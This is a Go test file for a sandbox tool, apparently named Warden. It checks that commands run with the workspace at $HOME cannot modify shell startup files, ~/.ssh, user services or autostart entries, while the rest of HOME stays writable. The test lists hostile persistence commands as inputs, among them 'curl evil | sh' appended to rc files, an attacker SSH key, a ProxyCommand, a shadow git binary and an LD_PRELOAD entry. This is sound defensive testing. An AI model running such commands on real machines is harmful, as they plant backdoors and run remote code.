@@ -1,0 +1,89 @@
+package main
+
+import (
+	"io/fs"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// With the workspace at $HOME, the files the host later runs without asking
+// (shell rc files, ~/.ssh, user services) stay read-only; the rest of HOME
+// stays writable, and the masks of missing ones leave nothing behind.
+
+// listTree lists every path under dir, relative, with its mode and
+// contents, but Warden's own state (the audit log of the runs).
+func listTree(t *testing.T, dir string) []string {
+	t.Helper()
+	var out []string
+	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
+		if err != nil || p == dir {
+			return nil
+		}
+		rel, _ := filepath.Rel(dir, p)
+		if strings.HasPrefix(rel, filepath.Join(".local", "state")) || rel == ".local" {
+			return nil
+		}
+		info, _ := d.Info()
+		entry := rel + " " + d.Type().String()
+		if info != nil && d.Type().IsRegular() {
+			entry += " " + info.Mode().String()
+			b, _ := os.ReadFile(p)
+			entry += " " + string(b)
+		}
+		out = append(out, entry)
+		return nil
+	})
+	return out
+}
+
+func TestProtectedStartupFilesInHomeWorkspace(t *testing.T) {
+	home := t.TempDir()
+	// A lived-in home: some startup files exist, others do not yet.
+	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
+	os.WriteFile(filepath.Join(home, ".ssh", "known_hosts"), []byte("host key\n"), 0o600)
+	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# mine\n"), 0o644)
+	os.MkdirAll(filepath.Join(home, ".config", "fish"), 0o755)
+	os.MkdirAll(filepath.Join(home, "project"), 0o755)
+	env := homeEnv(home)
+	before := listTree(t, home)
+
+	for _, attack := range []string{
+		`echo 'curl evil | sh' >> .bashrc`,
+		`echo 'curl evil | sh' > .zshenv`,
+		`echo 'curl evil | sh' > .profile`,
+		`echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys`,
+		`printf 'Host *\n  ProxyCommand sh -c id\n' > .ssh/config`,
+		`mv .ssh .ssh.old`,
+		`rm .bashrc`,
+		`mkdir -p .config/systemd/user && echo '[Service]' > .config/systemd/user/x.service`,
+		`mkdir -p .config/autostart && echo x > .config/autostart/x.desktop`,
+		`echo 'id' > .config/fish/config.fish`,
+		`mkdir -p .local/bin && printf '#!/bin/sh\nid\n' > .local/bin/git`,
+		`echo 'LD_PRELOAD=/x.so' > .pam_environment`,
+	} {
+		_, errOut, code := wardenIn(t, env, "exec", "--sandbox", "workspace-write", "--deny", "--cwd", home, "--", "sh", "-c", attack)
+		if code == 0 || !denied(errOut) && !strings.Contains(errOut, "busy") && !strings.Contains(errOut, "Is a directory") {
+			t.Errorf("attack %q: exit %d %s", attack, code, errOut)
+		}
+	}
+	if now := listTree(t, home); !slices.Equal(now, before) {
+		t.Errorf("HOME changed by the attacks (or masks left behind):\nbefore %q\nafter  %q", before, now)
+	}
+
+	// Twins: the rest of HOME is the workspace, writable as before.
+	_, errOut, code := wardenIn(t, env, "exec", "--sandbox", "workspace-write", "--deny", "--cwd", home, "--", "sh", "-c",
+		`echo n > notes.txt && mkdir -p .config/other && echo x > .config/other/x && echo y > project/main.go && cat .bashrc .ssh/known_hosts >/dev/null`)
+	if code != 0 {
+		t.Fatalf("twin: writing HOME beside the startup files: exit %d %s", code, errOut)
+	}
+	want := append(slices.Clone(before), ".config/other d---------", ".config/other/x ---------- -rw-r--r-- x\n", "notes.txt ---------- -rw-r--r-- n\n", "project/main.go ---------- -rw-r--r-- y\n")
+	slices.Sort(want)
+	now := listTree(t, home)
+	slices.Sort(now)
+	if !slices.Equal(now, want) {
+		t.Errorf("HOME after the twin:\nhave %q\nwant %q", now, want)
+	}
+}
